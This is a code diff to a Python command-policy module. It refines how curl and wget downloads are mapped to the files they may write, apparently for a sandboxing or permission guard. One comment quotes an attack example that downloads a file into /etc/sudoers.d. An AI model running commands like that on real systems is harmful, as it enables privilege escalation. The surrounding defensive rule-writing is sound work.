@@ -12,7 +12,7 @@ import urllib.parse
 
 from bastion.command_control.policy.curl_globs import expand_url, glob_reading, globbing, output_names
 from bastion.command_control.policy.options import _after_options, _options, _permuted
-from bastion.command_control.policy.paths import PathArg
+from bastion.command_control.policy.paths import HERE, PathArg
 from bastion.command_control.policy.program_writes import _in_folder
 from bastion.command_control.policy.words import _GLOB_CHARS, _Word
 
@@ -79,7 +79,9 @@ def _curl_writes(words: list[_Word]) -> list[PathArg]:
 def server_named(folder: _Word | None) -> list[PathArg]:
     """The file a download saves under a name the server chooses (curl -J, wget
     --content-disposition, aria2c): any one name in the folder, a dot-name too (`DIR/*`,
-    `DIR/.*`; here: judged in each folder a `cd` names, and as a name alone)."""
+    `DIR/.*`; here: the working folder's tree, `paths.HERE`)."""
+    if folder is None:
+        return [HERE]
     return [_in_folder(folder, "*"), _in_folder(folder, ".*")]
 
 
@@ -219,7 +221,7 @@ def _wget_writes(words: list[_Word]) -> tuple[list[PathArg], list[str | None]]:
         elif _wget_tree(words):
             # found after outside attack u30f (finding 20): -r, -m, -x, -i, -N,
             # --content-disposition here: any name, and any path, in the working folder
-            written += [PathArg("**", "pattern"), *server_named(None)]
+            written.append(HERE)
         else:  # each URL's name here (attack O: `cd /etc/sudoers.d && wget http://h/x`)
             written += [_in_folder(None, _url_name(w)) for w in words[1:]
                         if w.value is None or "://" in w.value]
